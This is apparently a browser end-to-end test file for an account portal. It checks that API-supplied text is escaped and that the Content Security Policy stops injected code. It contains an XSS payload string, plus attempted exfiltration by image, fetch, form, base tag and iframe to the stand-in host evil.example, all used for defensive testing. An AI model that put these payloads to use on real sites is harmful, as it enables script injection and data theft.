import { afterAll, beforeAll, expect, it, jest } from '@jest/globals';
import type { Browser, Page, Route } from 'playwright-core';
import type { RecoveryReadiness } from '#shared/api/account-views.ts';
import type { ActivityView } from '#shared/api/activity-views.ts';
import type { QuestionsView } from '#shared/api/authenticator-views.ts';
import type { EnvironmentsView } from '#shared/api/environment-views.ts';
import type { PasskeyView } from '#shared/api/passkeys.ts';
import type { ProfileView } from '#shared/api/profile-views.ts';
import type { FreshProofView } from '#shared/api/proof-views.ts';
import type { TokenView } from '#shared/api/token-views.ts';
import type { PortalView, SessionView } from '#shared/api/views.ts';
import { commonTotp } from '#shared/domain/otp/token-kind.ts';
import { eventually } from '#test/support/eventually.ts';
import { launchBrowser } from '#test/e2e/support/traveller.ts';
import { expectStatus } from '#test/support/person.ts';
import { Product } from '#test/support/product.ts';
import { requires } from '#test/support/requirements.ts';

jest.setTimeout(180_000);

const markup = (what: string): string => `"><img src="x" onerror="window.ran=1"><script>window.ran=1</script>${what}`;

/** The real pages in a real browser; markup in every text that the API can tell. */
requires('chromium')('W7: what people and administrators wrote, in the portal', () => {
  let product: Product;
  let browser: Browser;
  let session: SessionView;
  let portal: PortalView;

  beforeAll(async () => {
    product = await Product.shared();
    browser = await launchBrowser();
    const who = await product.newcomer();
    session = (await who.at.signIn(who.password)).session!;
    portal = expectStatus(200, await who.at.api.get<PortalView>('/portals/demo'));
  });
  afterAll(() => browser.close());

  const token: TokenView = {
    id: 'T'.repeat(22),
    kind: commonTotp,
    state: 'active',
    name: markup('app'),
    createdAt: new Date().toISOString(),
  };
  const now = new Date().toISOString();
  const readiness: RecoveryReadiness = {
    ...{ isReady: true, has: ['email-code'], missing: 0, choices: [] },
    ...{ lockedOutWithout: ['email-code'], spares: [] },
  };
  const places = [{ network: markup('network'), country: markup('country'), lastSeenAt: now }];
  const [passkeys, profile, environments, activity, questions, proof] = [
    [{ id: 'P'.repeat(22), name: markup('passkey'), createdAt: now, isSynced: true }] satisfies PasskeyView[],
    {
      ...{ displayName: markup('person'), givenName: markup('given'), surname: markup('surname') },
      login: { directory: markup('login'), isOffered: false },
      mail: { shown: markup('mail'), isOwn: true, directory: markup('mail of the directory') },
      phone: { shown: markup('phone'), isOffered: true, countries: [] },
    } satisfies ProfileView,
    {
      environments: [
        {
          ...{ id: 'E'.repeat(22), label: markup('device'), isTrusted: false, isThis: false, places },
          ...{ firstSeenAt: now, lastSeenAt: now },
        },
      ],
    } satisfies EnvironmentsView,
    {
      entries: [{ id: `${Date.now()}-a`, at: now, what: 'signed-in', from: { network: markup('network') } }],
    } satisfies ActivityView,
    {
      ...{ own: true, ask: 1, enrol: 1, offered: [{ id: 'boss', text: markup('question') }] },
      answered: [{ id: 'own:1', text: markup('own question') }],
    } satisfies QuestionsView,
    {
      choices: ['email-code'],
      begun: {},
      freshUntil: new Date(Date.now() + 600_000).toISOString(),
    } satisfies FreshProofView,
  ];
  /** What the API tells on the pages of the account. */
  const ofAccount = { passkeys, profile, environments, 'activity*': activity, questions, 'session/proof': proof };
  const open = async (path: string): Promise<Page> => {
    const page = await (await browser.newContext({ locale: 'en-GB' })).newPage();
    page.setDefaultTimeout(40_000);
    const tell = (json: unknown) => (route: Route) => route.fulfill({ json });
    await page.route('**/api/v1/session', tell({ ...session, displayName: markup('person'), login: markup('login') }));
    await page.route('**/api/v1/tokens', tell([token]));
    // Nothing is missing: who could not recover is led elsewhere first.
    await page.route('**/api/v1/account', tell({ recovery: readiness }));
    for (const [of, json] of Object.entries(ofAccount)) await page.route(`**/api/v1/${of}`, tell(json));
    const { name, support, label } = {
      name: markup('portal'),
      support: { en: markup('support') },
      label: markup('directory'),
    };
    const directory = { ...portal.directory, label, isReachable: false };
    const texts: PortalView['texts'] = {
      welcome: { en: markup('welcome') },
      proofs: { 'email-code': { en: markup('help with the code') } },
    };
    await page.route('**/api/v1/portals/demo', tell({ ...portal, name, support, texts, directory }));
    await page.goto(`${product.facts.portalUrl}${path}`);
    await page.waitForSelector('h1');
    return page;
  };
  const hasRun = (page: Page): Promise<unknown> => page.evaluate('window.ran');

  const pages: readonly [string, whatIsThere: string[]][] = [
    ['', ['portal', 'support', 'welcome']],
    ['/forgot', ['portal']],
    ['/account', ['portal', 'person', 'login']],
    ['/account/tokens', ['app']],
    [`/account/tokens/${token.id}`, ['app']],
    ['/account/set-up', ['portal']],
    ['/account/passkeys', ['passkey']],
    ['/account/profile', ['person', 'mail', 'phone']],
    ['/account/environments', ['device', 'network', 'country']],
    ['/account/activity', ['network']],
    ['/account/questions', ['portal']],
  ];

  it.each(pages)('the page %j shows it as text', async (path, whatIsThere) => {
    const page = await open(path);
    for (const what of whatIsThere) await page.getByText(markup(what)).first().waitFor();
    await eventually(async () => expect(await page.title()).toContain(markup('portal')));
    expect(await page.locator('img[src="x"], script:not([src])').count()).toBe(0);
    expect(await hasRun(page)).toBeUndefined();
    await page.context().close();
  });

  /** Should a text get into the page as markup all the same: each way in which it could do harm. */
  const harm: readonly [string, attempt: () => unknown, stoppedBy: string][] = [
    ['become markup', () => (document.body.innerHTML = '<b>x</b>'), 'require-trusted-types-for'],
    ['become a script', () => (document.createElement('script').text = 'window.ran=1'), 'require-trusted-types-for'],
    [
      'run behind a link',
      () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.ran=1';
        document.body.append(link);
        link.click();
      },
      'script-src',
    ],
    ['tell others by an image', () => (new Image().src = 'https://evil.example/x'), 'img-src'],
    ['tell others by a request', () => void fetch('https://evil.example/x').catch(() => undefined), 'connect-src'],
    [
      'send a form elsewhere',
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/x';
        document.body.append(form);
        form.submit();
      },
      'form-action',
    ],
    [
      'change where addresses lead',
      () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      },
      'base-uri',
    ],
    [
      'style the page',
      () => {
        const style = document.createElement('style');
        style.textContent = 'body{display:none}';
        document.head.append(style);
      },
      'style-src',
    ],
    [
      'put a page of others into ours',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
      },
      'frame-src',
    ],
  ];

  it.each(harm)('cannot %s', async (_, attempt, stoppedBy) => {
    const page = await open('');
    await page.evaluate(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
    });
    await page.evaluate(`(() => { try { (${attempt.toString()})() } catch {} })()`);
    await page.waitForFunction((directive) => {
      const { seen } = window as unknown as { seen: string[] };
      return seen.some((each) => each.startsWith(directive));
    }, stoppedBy);
    expect(await hasRun(page)).toBeUndefined();
    await page.context().close();
  });
});
